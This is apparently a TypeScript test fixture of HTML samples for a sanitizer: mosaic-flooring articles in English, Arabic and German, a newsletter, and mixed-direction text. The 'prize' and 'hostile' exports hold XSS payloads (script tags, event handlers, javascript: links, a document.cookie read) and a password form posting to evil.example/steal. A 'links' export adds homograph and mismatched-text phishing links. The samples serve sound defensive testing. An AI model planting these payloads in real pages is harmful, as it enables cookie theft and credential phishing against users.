/** Article by a trusted author, with every element that the policy allows. */
export const article = `
<h1>Laying a mosaic floor</h1>
<p>A mosaic lives by its <em>andamento</em>, the flow of its rows. Lay the outline first, then work
<strong>from the edge to the middle</strong>, and keep the joints under 2&nbsp;mm.<sup>1</sup></p>
<h2 id="tools">Tools</h2>
<ul>
  <li>Wheeled nippers, for glass</li>
  <li>Hammer and hardie, for stone
    <ul><li>keep the hardie oiled</li></ul>
  </li>
  <li>A <code>1.5 mm</code> notched trowel</li>
</ul>
<blockquote cite="https://example.org/cennini"><p>First the ground, and all else after it.</p></blockquote>
<h2>Steps</h2>
<ol>
  <li>Soak the ground.</li>
  <li>Spread as much mortar as you can lay in <time datetime="PT20M">twenty minutes</time>.</li>
  <li>Press <kbd>firmly</kbd>, wipe, wait.</li>
</ol>
<pre><code class="language-ini">[mortar]
sand = 3
lime = 1</code></pre>
<table>
  <caption>Curing times</caption>
  <thead><tr><th scope="col">Ground</th><th scope="col" align="right">Days</th></tr></thead>
  <tbody><tr><td>Lime</td><td align="right">28</td></tr><tr><td>Cement</td><td align="right">7</td></tr></tbody>
</table>
<details open><summary>Why so long?</summary><p>Lime hardens with air, from the outside in.</p></details>
<hr>
<p><small>1 See <a href="#tools">the tools</a> and <a href="https://example.org/joints">the guide to joints</a>.</small></p>`;

/** The same in Arabic. */
export const arabicArticle = `
<h1>رصف أرضية من الفسيفساء</h1>
<p>تحيا الفسيفساء من <em>جريان صفوفها</em>. ابدأ بخط الإطار، ثم اعمل
<strong>من الحافة إلى الوسط</strong>، واجعل الفواصل أضيق من 2&nbsp;مم.<sup>1</sup></p>
<h2 id="tools">الأدوات</h2>
<ul>
  <li>كماشة ذات عجلتين للزجاج</li>
  <li>مطرقة وإزميل للحجر
    <ul><li>ادهن الإزميل بالزيت</li></ul>
  </li>
  <li>مالج مسنن <code>1.5 mm</code></li>
</ul>
<blockquote cite="https://example.org/cennini"><p>الأرضية أولًا، وكل شيء بعدها.</p></blockquote>
<h2>الخطوات</h2>
<ol>
  <li>رطّب الأرضية.</li>
  <li>افرد من الملاط ما ترصفه في <time datetime="PT20M">عشرين دقيقة</time>.</li>
  <li>اضغط ثم امسح وانتظر <kbd>10 min</kbd>.</li>
</ol>
<pre><code class="language-ini">[mortar]
sand = 3
lime = 1</code></pre>
<table>
  <caption>مدة الجفاف</caption>
  <thead><tr><th scope="col">الأرضية</th><th scope="col" align="left">الأيام</th></tr></thead>
  <tbody><tr><td>الجير</td><td align="left">28</td></tr><tr><td>الإسمنت</td><td align="left">7</td></tr></tbody>
</table>
<details open><summary>لماذا كل هذا الوقت؟</summary><p>يتصلب الجير مع الهواء من الخارج إلى الداخل.</p></details>
<hr>
<p><small>1 انظر <a href="#tools">الأدوات</a> و<a href="https://example.org/joints">دليل الفواصل</a>.</small></p>`;

/** The same in German. */
export const germanArticle = `
<h1>Einen Mosaikboden legen</h1>
<p>Ein Mosaik lebt vom <em>Andamento</em>, dem Fluss seiner Reihen. Legen Sie zuerst den Umriss, arbeiten Sie dann
<strong>vom Rand zur Mitte</strong> und halten Sie die Fugen unter 2&nbsp;mm.<sup>1</sup></p>
<h2 id="tools">Werkzeug</h2>
<ul>
  <li>Mosaikzange mit Rädern für Glas</li>
  <li>Hammer und Hartmeißel für Stein
    <ul><li>den Meißel ölen</li></ul>
  </li>
  <li>Zahnkelle mit <code>1.5 mm</code></li>
</ul>
<blockquote cite="https://example.org/cennini"><p>Zuerst der Grund und alles andere danach.</p></blockquote>
<h2>Schritte</h2>
<ol>
  <li>Den Grund wässern.</li>
  <li>So viel Mörtel auftragen, wie Sie in <time datetime="PT20M">zwanzig Minuten</time> belegen.</li>
  <li><kbd>Fest</kbd> andrücken, wischen, warten.</li>
</ol>
<pre><code class="language-ini">[mortar]
sand = 3
lime = 1</code></pre>
<table>
  <caption>Trockenzeiten</caption>
  <thead><tr><th scope="col">Grund</th><th scope="col" align="right">Tage</th></tr></thead>
  <tbody><tr><td>Kalk</td><td align="right">28</td></tr><tr><td>Zement</td><td align="right">7</td></tr></tbody>
</table>
<details open><summary>Warum so lange?</summary><p>Kalk härtet an der Luft, von außen nach innen.</p></details>
<hr>
<p><small>1 Siehe <a href="#tools">Werkzeug</a> und die <a href="https://example.org/joints">Anleitung zu Fugen</a>.</small></p>`;

/** Comment by a stranger. */
export const comment = `<p>Great guide! I would <mark>soak twice</mark> in summer: <a href="https://example.org/tips">my notes</a>.</p>
<ul><li>morning: <code>30 min</code></li><li>evening: <code>15 min</code></li></ul>
<p>Ping <b>@ruth</b> if you are <s>late</s> early.</p>`;

/** Newsletter, as written by an email program. */
export const newsletter = `
<table width="100%" cellpadding="0" cellspacing="0" bgcolor="#f3f0ea"><tr><td align="center">
<table width="480" cellpadding="16" cellspacing="0" bgcolor="#ffffff">
<tr><td><img src="https://images.example.com/header.png" alt="Tile &amp; Grout, issue 14" width="448" height="96"></td></tr>
<tr><td style="color: #333333; line-height: 24px">
<h2 style="color: #8a3324; font-size: 22px">Spring colors</h2>
<p>Dear reader, the kilns are warm again. <font color="#8a3324"><b>Smalti</b></font> in forty new tones are in the shop from Monday.</p>
<p><a href="https://example.com/shop">See the colors</a></p></td></tr>
<tr><td style="background-image: url('https://images.example.com/sand.png'); font-size: 12px; color: #666666">You are receiving this newsletter because you subscribed.
<img src="https://track.example.net/open.gif?u=77" width="1" height="1" alt=""></td></tr>
</table></td></tr></table>`;

/** Text with images from other sites. */
export const withPictures = `<p>Two pictures from the workshop:</p>
<p><img src="https://images.example.com/bench.jpg" alt="Workbench with trays of cut glass, sorted by color" width="320" height="180">
<img src="https://images.example.com/floor.jpg" alt="Finished floor" width="200" height="180"></p>
<p>The second one was taken after the last wash.</p>`;

/** Returns a comment by a swindler, with six parts that are removed: its heading, and two links between words. */
function prizeIn([heading, before, here, or, signIn]: readonly string[]): string {
  return `<h2 onclick="steal()">${heading}</h2>
<script>steal()</script>
<p style="position: fixed; inset: 0">${before} <a href="javascript:steal()">${here}</a>
${or} <a href="https://xn--pple-43d.example/login">${signIn}</a>.</p>
<iframe src="https://evil.example/"></iframe>
<img src="https://evil.example/pixel.gif" alt="" width="1" height="1">`;
}

/** Comment by a swindler. */
export const prize = prizeIn(['You have won!', 'Get your trip', 'here', 'or', 'sign in']);

/** The same in Arabic. */
export const arabicPrize = prizeIn(['لقد ربحت!', 'احصل على رحلتك', 'من هنا', 'أو', 'سجّل الدخول']);

/** The same in German. */
export const germanPrize = prizeIn([
  'Sie haben gewonnen!',
  'Ihre Reise gibt es',
  'hier',
  'oder beim',
  'Anmelden',
]);

/** HTML with attacks. */
export const hostile = `<h2 onclick="alert(1)">You have won!</h2>
<script>alert(document.cookie)</script>
<p style="position:fixed;inset:0;background:url(https://evil.example/x)">Click <a href="javascript:alert(1)">here</a>
or <a href="https://xn--pple-43d.example/login">sign in</a>.</p>
<form action="https://evil.example/steal"><label>Password <input type="password" name="p"></label><button>Send</button></form>
<iframe src="https://evil.example/"></iframe><svg onload="alert(1)"><text>Hello</text></svg>
<img src="https://evil.example/pixel.gif" alt="" width="1" height="1" onerror="alert(1)">
<custom-card>Only its words stay.</custom-card>`;

/** Links to this page, to other sites, and to hosts that differ from the link text. */
export const links = `<ul>
<li><a href="#here">a part of this text</a></li>
<li><a href="/basket">a page of this site</a></li>
<li><a href="https://example.org/guide">a page of another site</a></li>
<li><a href="https://аррӏе.example/">аррӏе.example</a>, spelled with Cyrillic letters</li>
<li><a href="https://evil.example/login">https://bank.example/login</a>, which leads elsewhere</li>
<li><a href="mailto:ruth@example.org">Ruth</a> and <a href="tel:+4930123456">her telephone</a></li>
<li><a href="javascript:alert(1)">a script</a></li>
</ul>`;

/** Table and code that are wider than a phone. */
export const wide = `<table><thead><tr>${[
  'Kiln',
  'Loaded',
  'Fired',
  'Opened',
  'Highest temperature',
  'Remarks',
]
  .map((name) => `<th scope="col">${name}</th>`)
  .join('')}</tr></thead><tbody>${['North', 'South']
  .map(
    (kiln) =>
      `<tr><th scope="row">${kiln}</th><td>2026-04-08</td><td>2026-04-09</td><td>2026-04-11</td><td>1&nbsp;060&nbsp;°C</td><td>Even, with a long soak at the top</td></tr>`,
  )
  .join('')}</tbody></table>
<pre><code>kiln --name north --ramp 150 --soak 45 --top 1060 --cool slow --log /var/log/kiln/north.log</code></pre>
<p>Donaudampfschifffahrtsgesellschaftskapitänsmützenfabrikverkaufsstelle and
https://example.org/a/very/long/address/that/nobody/broke/into/parts/because/it/is/one/word</p>`;

/** Blocks of text in left-to-right and right-to-left languages. */
export const directions = `<h2>مرحبا بالجميع</h2>
<p>هذه فقرة بالعربية مع <a href="https://example.org/ar">رابط</a>.</p>
<p lang="en">This paragraph is English and begins on the left.</p>
<ul><li>عنصر أول</li><li>Second item</li></ul>
<blockquote><p>اقتباس قصير</p></blockquote>
<p lang="ja">日本語の段落には<ruby>漢字<rp>(</rp><rt>かんじ</rt><rp>)</rp></ruby>があります。</p>`;
